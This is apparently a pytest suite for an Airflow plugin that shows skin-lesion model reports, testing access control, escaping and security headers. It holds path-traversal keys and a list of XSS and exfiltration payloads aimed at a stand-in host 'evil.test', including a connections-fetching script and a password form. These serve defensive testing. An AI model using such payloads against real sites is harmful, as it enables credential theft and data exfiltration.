"""The page "Models": what it says, who may see it, and what it hands out."""

from __future__ import annotations

import base64
import hashlib
import html
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import documents
import pytest
import requests
import skin_models
import skin_page_models
from models_server import (
    DATASET,
    DOCS,
    DUPLICATES,
    REAL,
    UNFIT,
    UNFIT_RUN,
    VALIDATION,
    AirflowUi,
    fill,
)
from skin_models import data_link, report_link
from skin_web import readable

from skin_pipeline import journal
from skin_pipeline.contracts import RESULT, Notice, dump
from skin_pipeline.storage import FolderStore

REPORTS = {"gate/4f1ac2/report.html", DOCS, "split/aa11/docs/checks.html"}
OTHERS = {
    "",
    "gate/4f1ac2/result.json",
    "gate/../weights/report.html",
    "gate/4f1ac2/report.html/../../../weights/private.html",
    "gate//report.html",
    "/gate/4f1ac2/report.html",
    "gate/4f1ac2/report.html\n",
    "models/skin-resnet50/champion.json",
    "validate/aa11/docs/../../../weights/private.html",
    "validate/aa11/docs/.hidden.html",
    "validate/aa11/docs/deeper/index.html",
    "ingest/aa11/docs/index.html",
    "validate/aa11/docs/a/../../result.json",
    "validate/aa11/result.json",
    "weights/private.html",
}


@pytest.mark.parametrize("key", sorted(REPORTS | OTHERS))
def test_only_reports_and_data_docs_are_handed_out(key: str) -> None:
    assert readable(key) is (key in REPORTS)


@pytest.mark.parametrize(
    ("base", "link"),
    [
        ("https://a.example.org", "https://a.example.org/plugin/models/skin-models/view/"),
        (
            "https://a.example.org/af/",
            "https://a.example.org/af/plugin/models/af/skin-models/view/",
        ),
        ("", ""),
    ],
)
def test_a_report_has_a_link_into_the_airflow_ui(base: str, link: str) -> None:
    key = "gate/4f1ac2/report.html"
    assert report_link(key, base) == (link and link + key)
    assert report_link("weights/private.html", base) == ""


@pytest.mark.parametrize(
    ("dag", "base", "link"),
    [
        (
            "skin_training",
            "https://a.org/af/",
            "https://a.org/af/dags/skin_training/runs/{}/plugin/",
        ),
        ("skin_training", "", ""),
        ("another", "https://a.org", ""),
    ],
)
def test_a_run_has_a_link_to_what_was_found_in_its_data(dag: str, base: str, link: str) -> None:
    found = data_link(dag, "manual__1+00:00", base)
    assert found == (link and link.format("manual__1%2B00%3A00") + "skin-data")


# --- what it says, without a server --------------------------------------------------------------


@pytest.mark.parametrize("linked", ["gate/4f1a/report.html", "gate/4f1a", "gate"])
def test_a_link_in_the_store_shows_no_file_of_the_server(
    client: Any, empty: FolderStore, tmp_path: Path, linked: str
) -> None:
    key = "gate/4f1a/report.html"
    secrets = tmp_path / "home"
    (secrets / key).parent.mkdir(parents=True)
    (secrets / key).write_text("password: hunter2")
    (empty.root / linked).parent.mkdir(parents=True)
    (empty.root / linked).symlink_to(secrets / linked)

    answer = client.get(f"/report/{key}")
    assert "hunter2" not in answer.text
    assert answer.status_code == 503
    assert f"{linked} in the folder" in html.unescape(answer.text)


# --- the tab of a run ----------------------------------------------------------------------------

JUDGED_RUN = "scheduled__2026-06-15T03:00:00+00:00"


def test_the_tab_of_a_run_says_what_was_found_in_its_data(client: Any, empty: FolderStore) -> None:
    fill(empty)
    page = client.get(f"/run/skin_training/{JUDGED_RUN}")
    text = html.unescape(page.text)
    assert page.status_code == 200
    assert "Fit for training</h2>" in text
    assert "0 failed, 2 warnings" in text
    assert "560 benign, 584 malignant, 3 quarantined" in text
    assert f"{DUPLICATES}: 3 found" in text
    assert "border ring colour alone predicts the label: AUC 0.790 [0.760, 0.820]" in text
    assert "12 images added, 1 removed, 2 relabelled." in text
    links = re.findall(r'href="../../(view/.*?)"', page.text)
    assert [link.split("/")[1] for link in links] == ["validate", "split", "gate"]
    assert all(client.get(f"/{link}").status_code == 200 for link in links)


def test_what_was_found_and_not_used_is_listed_by_kind_the_first_twenty_of_each(
    client: Any, empty: FolderStore
) -> None:
    skipped = [notice("files_skipped", f"scan-{number}.heic") for number in range(27)]
    table = notice("table_not_used", "METADATA.<b>CSV</b>", count=3)
    found = documents.dataset(DATASET, notices=(*skipped, table))
    empty.put(f"{DATASET}/{RESULT}", dump(found))
    fill(empty)

    text = client.get(f"/run/skin_training/{JUDGED_RUN}").text

    assert "Found, not used</h3>" in text
    assert "0 failed, 4 warnings" in text  # two of the checks, and two kinds
    assert text.count("scan-") == 20
    assert "and 7 more, which the log of ingest names" in text
    assert "METADATA.&lt;b&gt;CSV&lt;/b&gt; (3): no column fits" in text


def test_a_set_of_another_origin_tells_what_it_did_not_use(client: Any, empty: FolderStore) -> None:
    other = documents.dataset("ingest/09", notices=(notice("table_not_used", "notes.xlsx"),))
    empty.put(f"ingest/09/{RESULT}", dump(other))
    checked = documents.validation(VALIDATION, DATASET, external={"clinic-b": "ingest/09"})
    empty.put(f"{VALIDATION}/{RESULT}", dump(checked))
    fill(empty)
    text = client.get(f"/run/skin_training/{JUDGED_RUN}").text
    assert "clinic-b: notes.xlsx: no column fits" in text


def test_data_that_was_used_whole_is_not_said_to_have_left_something(
    client: Any, empty: FolderStore
) -> None:
    fill(empty)
    assert "not used" not in client.get(f"/run/skin_training/{JUDGED_RUN}").text


def test_a_repeated_run_says_that_nothing_changed(client: Any, empty: FolderStore) -> None:
    fill(empty)
    page = f"/run/skin_training/{JUDGED_RUN}"
    assert "Nothing changed" not in client.get(page).text
    journal.note(empty, JUDGED_RUN, unchanged=True)
    text = client.get(page).text
    assert "Nothing changed</h2>" in text
    assert "which came to the same verdict on 2026-11-01 12:00 UTC" in text


def notice(kind: str, subject: str, count: int = 1) -> Notice:
    """Something found beside the images."""
    return Notice(kind=kind, subject=subject, reason="no column fits", count=count)


def test_a_run_that_failed_in_validation_leads_to_its_data_docs(
    client: Any, empty: FolderStore
) -> None:
    fill(empty)
    text = client.get(f"/run/skin_training/{UNFIT_RUN}").text
    assert "Not fit for training</h2>" in text
    assert "duplicates have one label: 3 found" in text
    assert re.findall(r'href="../../(.*?)"', text) == [f"view/{UNFIT}/docs/index.html"]


def test_what_comes_from_the_data_is_escaped(client: Any, empty: FolderStore) -> None:
    fill(empty)
    text = client.get(f"/run/skin_training/{JUDGED_RUN}").text
    assert "<skin>" not in text
    assert "<b>" not in text
    assert "kaggle://owner/&lt;skin&gt;" in text


@pytest.mark.parametrize(
    ("dag", "run", "said"),
    [
        ("skin_training", "manual__new", "as soon as the task validate has checked"),
        ("another_dag", JUDGED_RUN, "Only runs of skin_training"),
    ],
)
def test_a_run_without_data_says_so(
    client: Any, empty: FolderStore, dag: str, run: str, said: str
) -> None:
    fill(empty)
    page = client.get(f"/run/{dag}/{run}")
    assert page.status_code == 200
    assert said in page.text


def test_a_run_that_has_not_been_split_shows_what_there_is(client: Any, empty: FolderStore) -> None:
    fill(empty)
    journal.note(empty, "manual__half", validation="validate/01")
    text = client.get("/run/skin_training/manual__half").text
    assert "Data Docs of the images" in text
    assert "Data Docs of the split" not in text
    assert "Report" not in text


@pytest.mark.parametrize(
    ("variables", "said"),
    [
        ({"SKIN_STORE": "ftp://somewhere"}, "SKIN_STORE must be"),
        (
            {"SKIN_STORE": "s3://models", "SKIN_STORE_CONNECTION": "nowhere"},
            "SKIN_STORE_CONNECTION names the Airflow connection",
        ),
        ({"SKIN_RETRIES": "often"}, "retries"),
    ],
)
def test_a_store_that_cannot_be_read_is_explained(
    variables: dict[str, str], said: str, client: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in variables.items():
        monkeypatch.setenv(name, value)

    page = client.get("/")

    assert page.status_code == 503
    assert "The model store cannot be read" in page.text
    assert said in html.unescape(page.text)
    assert "Traceback" not in page.text


def test_an_unexpected_error_shows_no_stack_trace(
    client: Any, empty: FolderStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_: Any) -> list[Any]:
        raise RuntimeError("private detail")

    monkeypatch.setattr(skin_page_models, "overview", broken)
    page = client.get("/")
    assert page.status_code == 500
    assert "RuntimeError. The log of the API server says more." in page.text
    assert "private detail" not in page.text


def test_loading_the_plugin_imports_nothing_heavy() -> None:
    plugins = str(Path(skin_models.__file__).parent)
    code = (
        f"import sys; sys.path.insert(0, {plugins!r})\n"
        "import skin_connections, skin_models, skin_notifier\n"
        "heavy = {'fastapi', 'boto3', 'botocore', 'numpy', 'pandas'}\n"
        "ours = {name for name in sys.modules if name.startswith('skin_pipeline.')}\n"
        "print(sorted(heavy & set(sys.modules) | ours - {'skin_pipeline.foreign'}))"
    )
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert run.stdout.strip().endswith("[]")


# What a report could hold if somebody else can write into the store, and what forbids it there.
FORBIDDEN = {
    "<script>fetch('/api/v2/connections')</script>": ("default-src 'none'", "sandbox"),
    "<img src=x onerror=alert(1)>": ("default-src 'none'", "sandbox"),
    "<svg><script href='//evil.test/a.js'/></svg>": ("default-src 'none'", "sandbox"),
    "<iframe src='/skin-models/'></iframe>": ("default-src 'none'",),
    "<object data='//evil.test'></object><embed src='//evil.test'>": ("default-src 'none'",),
    "<form action='//evil.test'><input name=password></form>": ("form-action 'none'", "sandbox"),
    "<base href='//evil.test'>": ("base-uri 'none'",),
    "<img src='//evil.test/seen.png'>": ("img-src data:",),
    "<style>@import '//evil.test'; a { background: url(//evil.test) }</style>": (
        "default-src 'none'",
        "img-src data:",
    ),
    "<meta http-equiv=refresh content='0;url=//evil.test'>": ("sandbox",),
    "<link rel=dns-prefetch href='//evil.test'>": (),
}
ALLOWED = {"allow-same-origin", "allow-downloads"}  # in the sandbox; neither runs or leads anything


@pytest.mark.parametrize("hostile", FORBIDDEN)
def test_a_report_that_a_stranger_wrote_can_do_nothing_in_the_reader_s_name(
    client: Any, empty: FolderStore, hostile: str
) -> None:
    empty.put("gate/4f1ac2/report.html", hostile.encode())
    answer = client.get("/report/gate/4f1ac2/report.html")
    assert answer.text == hostile
    policy = [rule.split() for rule in answer.headers["Content-Security-Policy"].split(";")]
    rules = {name: set(values) for name, *values in policy}
    assert len(rules) == len(policy)
    for rule in FORBIDDEN[hostile]:
        name, *values = rule.split()
        assert rules[name] == (set(values) if values else ALLOWED)
    assert set(rules) == {
        *("default-src", "style-src", "img-src", "frame-ancestors"),
        *("base-uri", "form-action", "sandbox"),
    }
    assert rules["style-src"] == {"'unsafe-inline'"}
    assert answer.headers["Content-Type"] == "text/html; charset=utf-8"
    assert answer.headers["X-DNS-Prefetch-Control"] == "off"


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/run/skin_training/manual__new",
        "/view/gate/4f1ac2/report.html",
        "/report/gate/4f1ac2/report.html",
    ],
)
def test_no_page_is_framed_by_strangers_kept_by_others_or_taken_for_something_else(
    client: Any, empty: FolderStore, path: str
) -> None:
    empty.put("gate/4f1ac2/report.html", b"<h1>Report</h1>")
    headers = client.get(path).headers
    policy = headers["Content-Security-Policy"].split("; ")
    form = "'none'" if path.startswith("/report/") else "'self'"
    expected = {"default-src 'none'", "frame-ancestors 'self'", f"form-action {form}"}
    assert expected < set(policy)
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Cross-Origin-Resource-Policy"] == "same-origin"
    assert headers["Referrer-Policy"] == "same-origin"
    assert headers["Cache-Control"] == "private, no-cache"


# --- behind Airflow's own login ------------------------------------------------------------------


@pytest.fixture
def visitor(airflow_ui: AirflowUi) -> requests.Session:
    """Somebody who has logged in to the running Airflow."""
    session = requests.Session()
    session.cookies.set("_token", airflow_ui.token)
    return session


@pytest.mark.airflow
@pytest.mark.parametrize(
    "path",
    ["", "report/gate/x/report.html", "view/gate/x/report.html", "run/skin_training/manual__1"],
)
def test_nothing_is_shown_without_a_login(path: str, airflow_ui: AirflowUi) -> None:
    answer = requests.get(f"{airflow_ui.url}/skin-models/{path}", timeout=300)
    assert answer.status_code == 401
    assert REAL not in answer.text


@pytest.mark.airflow
@pytest.mark.parametrize("path", ["docs", "redoc", "openapi.json"])
def test_the_page_publishes_no_description_of_itself(path: str, airflow_ui: AirflowUi) -> None:
    assert requests.get(f"{airflow_ui.url}/skin-models/{path}", timeout=300).status_code == 404


@pytest.mark.airflow
def test_with_a_login_the_page_and_its_reports_are_shown(
    airflow_ui: AirflowUi, visitor: requests.Session
) -> None:
    home = f"{airflow_ui.url}/skin-models/"
    page = visitor.get(home, timeout=300)
    assert page.status_code == 200
    assert f"{REAL}</h2>" in page.text

    (key, *_) = re.findall(r'href="./view/(gate/\w+/report.html)"', page.text)
    frame = visitor.get(f"{home}view/{key}", timeout=300)
    (source,) = re.findall(r'<iframe src="([^"]+)"', frame.text)
    report = visitor.get(f"{home}view/{key.rpartition('/')[0]}/{source}", timeout=300)

    assert report.url == f"{home}report/{key}"
    assert report.content == airflow_ui.store.read(key)
    assert report.headers["X-Content-Type-Options"] == "nosniff"
    policy = report.headers["Content-Security-Policy"].split("; ")
    assert {"default-src 'none'", "style-src 'unsafe-inline'", "img-src data:"} < set(policy)
    assert not any(rule.startswith(("script-src", "connect-src")) for rule in policy)
    assert visitor.get(f"{home}report/{DOCS}", timeout=300).content == airflow_ui.store.read(DOCS)


@pytest.mark.airflow
def test_the_page_runs_one_script_and_no_other(
    airflow_ui: AirflowUi, visitor: requests.Session
) -> None:
    page = visitor.get(f"{airflow_ui.url}/skin-models/", timeout=300)
    (script,) = re.findall(r"<script>(.*?)</script>", page.text, re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    policy = page.headers["Content-Security-Policy"].split("; ")
    assert {"default-src 'none'", f"script-src 'sha256-{digest}'"} < set(policy)
    assert not re.findall(r"https?://|\bsrc=", page.text)


@pytest.mark.airflow
@pytest.mark.parametrize(
    "key",
    [
        "weights/private.html",
        "gate/..%2f..%2fweights%2fprivate.html",
        "gate/%2e%2e/weights/private.html",
        "validate/01/docs/..%2f..%2f..%2fweights%2fprivate.html",
        f"models%2f{REAL}%2fchampion.json",
        "gate/none/report.html",
    ],
)
@pytest.mark.parametrize("route", ["report", "view"])
def test_nothing_else_of_the_store_can_be_read(
    route: str, key: str, airflow_ui: AirflowUi, visitor: requests.Session
) -> None:
    request = requests.Request("GET", f"{airflow_ui.url}/skin-models/", cookies=visitor.cookies)
    prepared = request.prepare()
    prepared.url = f"{airflow_ui.url}/skin-models/{route}/{key}"  # as it is, dots and all
    answer = visitor.send(prepared, timeout=300)

    assert "not for the page" not in answer.text
    frame_of_a_missing_report = route == "view" and key == "gate/none/report.html"
    assert answer.status_code == (200 if frame_of_a_missing_report else 404)


@pytest.mark.airflow
def test_airflow_lists_the_plugin_without_import_errors(airflow_ui: AirflowUi) -> None:
    login = {"Authorization": f"Bearer {airflow_ui.token}"}
    api = f"{airflow_ui.url}/api/v2/plugins"
    errors = requests.get(f"{api}/importErrors", headers=login, timeout=300).json()
    assert errors["import_errors"] == []
    plugins = requests.get(api, headers=login, timeout=300).json()["plugins"]
    views = [view for plugin in plugins for view in plugin["external_views"]]
    seen = {(view["name"], view["destination"]) for view in views}
    assert seen == {("Models", "nav"), ("Data", "dag_run")}
